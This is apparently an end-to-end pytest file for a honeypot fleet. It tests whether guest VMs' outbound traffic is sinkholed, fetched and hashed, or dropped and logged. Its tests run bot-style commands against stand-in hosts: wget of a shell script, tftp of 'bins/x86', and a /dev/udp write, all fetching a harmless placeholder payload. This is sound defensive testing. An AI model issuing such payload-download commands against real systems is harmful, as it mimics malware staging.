"""Egress containment with real guests (TCG) in the run's network namespace.

The "internet" is an HTTP server this test runs inside the namespace (on its
loopback): under ``sinkhole`` a guest's wget reaches only the node's sinkhole, which
reports the URL; under ``fetch`` the node fetches the file through that server (as the
operator's proxy; HTTPS through its CONNECT tunnel to an HTTPS origin with a CA of its
own, TFTP from dnsmasq on an address of the namespace) and the guest gets it; under
``drop`` nothing answers and each attempt is an event. The guests' DNS lookups are
events too. Every event is read back from the controller's store, on the lease's
session.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import sqlite3
import ssl
import subprocess
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import Encoding

from honeyfleet.pki.certs import generate_key, private_key_pem
from tests.conftest import until
from tests.e2e.fleet import VmFleet, run
from tests.e2e.vmhost import GATEWAY, NetnsSockets, VmHost
from tests.integration.test_poolnode_egress_https import certificate
from tests.prereq import require_tool

pytestmark = [pytest.mark.vm, pytest.mark.timeout(900)]

PAYLOAD = b"#!/bin/sh\necho 'a bot was here'\n" * 64
HOST = "files.example.test"
PORT = 8080
URL = f"http://{HOST}:{PORT}/bins/x.sh"
FTP_URL = f"ftp://{HOST}/bins/x.sh"
HTTPS_URL = f"https://{HOST}/bins/x.sh"
FAR = "192.0.2.10"  # TEST-NET-1: nothing real, and nothing leaves the namespace anyway
ON_LINK6 = "fe80::99"  # nobody: a guest asking for it is dropped at the bridge
TFTP_SERVER = "192.0.2.69"  # on the namespace's loopback while the fetch test runs
TFTP_URL = f"tftp://{TFTP_SERVER}/bins/x86"


class Internet:
    """An HTTP server in the namespace that serves PAYLOAD for URL, proxy-style, and
    tunnels CONNECT to HOST:443 to ``origin`` (an HTTPS server) once that is set."""

    def __init__(self, sockets: NetnsSockets) -> None:
        self.requests: list[bytes] = []
        self.sockets = sockets
        self.origin: int | None = None
        """The HTTPS origin's port in the namespace."""

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        self.requests.append(head)
        if head.startswith(f"CONNECT {HOST}:443 ".encode()) and self.origin is not None:
            sock = await self.sockets.connect("127.0.0.1", self.origin)
            up_reader, up_writer = await asyncio.open_connection(sock=sock)
            writer.write(b"HTTP/1.1 200 Connection established\r\n\r\n")
            await asyncio.gather(_relay(reader, up_writer), _relay(up_reader, writer))
            return
        if head.startswith((f"GET {URL} ".encode(), f"GET {FTP_URL} ".encode())):
            writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD)
        else:
            writer.write(b"HTTP/1.0 404 Not Found\r\n\r\n")
        await writer.drain()
        writer.close()


async def _relay(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(OSError):
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    writer.close()


async def _origin(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The HTTPS origin: PAYLOAD for /bins/x.sh."""
    head = await reader.readuntil(b"\r\n\r\n")
    if head.startswith(b"GET /bins/x.sh "):
        writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD)
    else:
        writer.write(b"HTTP/1.0 404 Not Found\r\n\r\n")
    await writer.drain()
    writer.close()


@pytest.fixture
async def https_origin(
    vm_host: VmHost, internet: tuple[Internet, str], tmp_path: Path
) -> AsyncIterator[Path]:
    """An HTTPS origin for HOST in the namespace, with a CA of its own; the CA's file."""
    web, _ = internet
    ca_key, key = generate_key(), generate_key()
    ca = certificate("e2e internet CA", None, ca_key, ca_key, ca=True)
    leaf = certificate(HOST, ca.subject, key, ca_key, ca=False)
    bundle = tmp_path / "internet-ca.pem"
    bundle.write_bytes(ca.public_bytes(Encoding.PEM))
    chain = tmp_path / "origin.pem"
    chain.write_bytes(leaf.public_bytes(Encoding.PEM) + private_key_pem(key))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(chain)
    sock = await vm_host.sockets.listen("127.0.0.1")
    server = await asyncio.start_server(_origin, sock=sock, ssl=context)
    web.origin = sock.getsockname()[1]
    try:
        yield bundle
    finally:
        web.origin = None
        server.close()


@pytest.fixture
def tftp_server(vm_host: VmHost, tmp_path: Path) -> Iterator[None]:
    """dnsmasq serving bins/x86 (PAYLOAD) by TFTP on TFTP_SERVER, inside the namespace."""
    require_tool("dnsmasq", "dnsmasq-base")
    root = tmp_path / "tftp"
    (root / "bins").mkdir(parents=True)
    (root / "bins" / "x86").write_bytes(PAYLOAD)
    vm_host.ns("ip", "addr", "add", f"{TFTP_SERVER}/32", "dev", "lo")
    server = subprocess.Popen(
        vm_host.ns_argv(
            "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv",
            "--no-hosts", "--port=0", "--enable-tftp", f"--tftp-root={root}",
            f"--listen-address={TFTP_SERVER}", "--bind-interfaces", "--user=root",
            "--pid-file=", "--log-facility=-",
        ),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )  # fmt: skip
    try:
        assert server.stdout is not None
        for line in server.stdout:
            if b"TFTP root" in line:
                break
        yield
    finally:
        server.terminate()
        server.wait(10)
        vm_host.ns("ip", "addr", "del", f"{TFTP_SERVER}/32", "dev", "lo")


@pytest.fixture
async def internet(vm_host: VmHost) -> AsyncIterator[tuple[Internet, str]]:
    """The test's internet, and its address inside the namespace."""
    web = Internet(vm_host.sockets)
    sock = await vm_host.sockets.listen("127.0.0.1")
    server = await asyncio.start_server(web.handle, sock=sock)
    try:
        yield web, f"127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.close()


def stored(fleet: VmFleet, eventid: str, lease: str) -> list[dict[str, Any]]:
    """The controller's stored events with ``eventid`` on ``lease``."""
    assert fleet.controller is not None
    path = fleet.controller.config.state_dir / "events.sqlite3"
    with sqlite3.connect(path) as db:
        rows = db.execute("SELECT json FROM events").fetchall()
    events = [json.loads(row[0]) for row in rows]
    return [e for e in events if e["eventid"] == eventid and e.get("lease") == lease]


async def test_sinkhole_reports_lookups_and_the_url_and_gives_no_file(
    vm_fleet: VmFleet, internet: tuple[Internet, str]
) -> None:
    web, _ = internet
    await vm_fleet.ensure_node(pristine=1)  # sinkhole: the default
    lease = await vm_fleet.lease("203.0.113.60")
    async with vm_fleet.shell(lease.id) as conn:
        lookup = await run(conn, f"nslookup {HOST}")
        wget = await run(conn, f"wget -O /tmp/x.sh {URL}; echo rc=$?; ls -l /tmp/x.sh")
        # Literal addresses off the pool network: the guests' default route is the node.
        literal = await run(conn, f"wget -O - http://{FAR}:81/lit")
        udp = await run(conn, f"bash -c 'echo hi > /dev/udp/{FAR}/9999'")
        tftp = await run(conn, f"timeout 5 tftp -g -r bins/x86 -l /tmp/x86 {FAR}")
    await vm_fleet.sensor().release(lease.id)
    assert f"Address: {GATEWAY}" in str(lookup.stdout), lookup
    assert "rc=0" not in str(wget.stdout), wget
    assert "404" in str(wget.stderr), wget
    assert web.requests == []  # nothing left the pool network

    await until(lambda: bool(stored(vm_fleet, "honeyfleet.egress.connect", lease.id)), 30)
    connect = stored(vm_fleet, "honeyfleet.egress.connect", lease.id)[0]
    assert (connect["url"], connect["dst_ip"], connect["dst_port"]) == (URL, GATEWAY, PORT)
    assert connect["src_ip"] == "203.0.113.60" and connect["guest"] == lease.guest
    dns = stored(vm_fleet, "honeyfleet.egress.dns", lease.id)
    assert {(e["query"], e["qtype"]) for e in dns} >= {(HOST, "A")}
    assert all(e["answer"] in (GATEWAY, "no records") for e in dns)
    assert not stored(vm_fleet, "cowrie.session.file_download", lease.id)
    assert "404" in str(literal.stderr), literal
    assert udp.exit_status == 0, udp  # sent; the filter drops it
    assert tftp.exit_status != 0, tftp
    await until(lambda: len(stored(vm_fleet, "honeyfleet.egress.connect", lease.id)) == 4, 30)
    by_port = {e["dst_port"]: e for e in stored(vm_fleet, "honeyfleet.egress.connect", lease.id)}
    assert (by_port[81]["dst_ip"], by_port[81]["url"]) == (FAR, f"http://{FAR}:81/lit")
    assert (by_port[9999]["dst_ip"], by_port[9999]["transport"]) == (FAR, "udp")
    assert by_port[9999]["kind"] == "dropped"
    assert (by_port[69]["url"], by_port[69]["method"]) == (f"tftp://{FAR}/bins/x86", "read")


async def test_fetch_gives_the_guest_the_file_and_the_store_its_sha256(
    vm_fleet: VmFleet, internet: tuple[Internet, str], https_origin: Path, tftp_server: None
) -> None:
    web, address = internet
    await vm_fleet.ensure_node(
        pristine=1,
        egress_policy="fetch",
        egress_fetch_proxy=address,
        egress_fetch_ca_bundle=str(https_origin),
    )
    lease = await vm_fleet.lease("203.0.113.61")
    async with vm_fleet.shell(lease.id) as conn:
        wget = await run(conn, f"wget -O /tmp/x.sh {URL} && sha256sum /tmp/x.sh")
        ftp = await run(conn, f"wget -O /tmp/f.sh {FTP_URL} && sha256sum /tmp/f.sh")
        https = await run(conn, f"wget -O /tmp/s.sh {HTTPS_URL} && sha256sum /tmp/s.sh")
        tftp = await run(
            conn, f"tftp -g -r bins/x86 -l /tmp/t.bin {TFTP_SERVER} && sha256sum /tmp/t.bin"
        )
    await vm_fleet.sensor().release(lease.id)
    shasum = hashlib.sha256(PAYLOAD).hexdigest()
    assert wget.exit_status == 0, wget
    assert str(wget.stdout).split()[0] == shasum
    assert web.requests and web.requests[0].startswith(f"GET {URL} HTTP/1.0".encode())
    assert ftp.exit_status == 0, ftp
    assert str(ftp.stdout).split()[0] == shasum
    assert web.requests[1].startswith(f"GET {FTP_URL} HTTP/1.0".encode())

    # HTTPS: the guest's busybox wget met the node's leaf for HOST; the node fetched the
    # URL through the proxy's CONNECT tunnel, checking the origin against its own CA.
    assert https.exit_status == 0, https
    assert str(https.stdout).split()[0] == shasum
    assert any(r.startswith(f"CONNECT {HOST}:443 ".encode()) for r in web.requests)
    # TFTP: fetched by the node's own client from dnsmasq, sent to the guest.
    assert tftp.exit_status == 0, tftp
    assert str(tftp.stdout).split()[0] == shasum

    await until(lambda: len(stored(vm_fleet, "cowrie.session.file_download", lease.id)) == 4, 30)
    downloads = stored(vm_fleet, "cowrie.session.file_download", lease.id)
    assert {(d["url"], d["shasum"]) for d in downloads} == {
        (URL, shasum),
        (FTP_URL, shasum),
        (HTTPS_URL, shasum),
        (TFTP_URL, shasum),
    }
    assert (vm_fleet.state_dir / "downloads" / shasum).read_bytes() == PAYLOAD
    # And the file itself reaches the controller's artefact store.
    assert vm_fleet.controller is not None
    stored_file = vm_fleet.controller.artefacts.path(shasum)
    await until(stored_file.exists, 60)
    assert stored_file.read_bytes() == PAYLOAD


async def test_drop_refuses_lookups_and_reports_each_attempt(vm_fleet: VmFleet) -> None:
    await vm_fleet.ensure_node(pristine=1, egress_policy="drop")
    lease = await vm_fleet.lease("203.0.113.62")
    async with vm_fleet.shell(lease.id) as conn:
        named = await run(conn, f"timeout 10 wget -O /tmp/x.sh {URL}")
        literal = await run(conn, f"timeout 5 wget -O /tmp/y.sh http://{FAR}:81/lit")
        # IPv6 to an on-link address: its neighbour solicitation is all that leaves.
        six = await run(conn, f"timeout 5 wget -O /tmp/z.sh 'http://[{ON_LINK6}%eth0]/six'")
    await vm_fleet.sensor().release(lease.id)
    assert named.exit_status != 0 and literal.exit_status != 0 and six.exit_status != 0
    assert "404" not in str(literal.stderr)  # nothing answered: the filter dropped it

    await until(lambda: len(stored(vm_fleet, "honeyfleet.egress.connect", lease.id)) >= 2, 30)
    attempts = stored(vm_fleet, "honeyfleet.egress.connect", lease.id)
    (dropped,) = [e for e in attempts if e["transport"] == "tcp"]  # resends: one
    assert (dropped["dst_ip"], dropped["dst_port"], dropped["transport"]) == (FAR, 81, "tcp")
    assert dropped["kind"] == "dropped"
    (solicited,) = [e for e in attempts if e["transport"] == "icmpv6"]
    assert (solicited["dst_ip"], solicited["kind"]) == (ON_LINK6, "dropped")
    assert (
        solicited["src_ip6"].startswith("fe80::") and solicited["guest_ip"] == dropped["guest_ip"]
    )
    dns = stored(vm_fleet, "honeyfleet.egress.dns", lease.id)
    assert dns and {e["query"] for e in dns} == {HOST}
    assert {e["answer"] for e in dns} == {"REFUSED"}
